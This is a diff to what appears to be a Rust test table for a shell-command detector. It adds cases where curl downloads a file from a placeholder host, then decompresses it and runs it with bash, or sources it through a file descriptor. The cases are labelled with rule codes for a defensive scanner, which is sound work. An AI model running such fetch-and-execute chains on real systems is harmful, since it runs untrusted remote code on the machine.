@@ -339,6 +339,10 @@ const CASES: &[(&str, &str)] = &[
     ("curl -s http://x > f; sed -f f x", "0056"),
     ("curl -s http://x > f; mkdir d; ln f d; bash d/f", "0057"),
     ("curl -s http://x | busybox sh", "0050"),
+    ("curl -so a.gz http://x; gunzip a.gz; bash a", "0057"),
+    ("curl -so a.xz http://x; xz -d a.xz; bash a", "0057"),
+    ("curl -s http://x > f; exec 3<f; source /proc/self/fd/3", "0056"),
+    ("gunzip local.gz; bash local", "0007"),
     ("echo '{print}' > p.awk; awk -f p.awk x", "0006"),
     // (arithmetic on fetched text is not taken as running it: see ARCHITECTURE.md)
     ("v=$(curl -s https://x/y); echo $((v+1))", "0044"),
